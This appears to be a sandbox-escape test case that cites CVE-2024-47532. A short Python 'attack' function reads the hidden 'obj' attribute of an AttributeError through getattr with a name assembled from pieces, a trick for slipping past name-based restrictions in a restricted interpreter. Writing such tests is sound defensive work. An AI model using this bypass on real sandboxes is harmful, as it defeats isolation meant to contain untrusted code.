# The same by `getattr`, and by the name in a variable.
# after: interpreter
# source: CVE-2024-47532 (GHSA-5rfv-66g4-jr8h)
import json
def attack(**_):
    try:
        json.nothing
    except AttributeError as e:
        return {"proof": str(getattr(e, "ob" + "j"))}
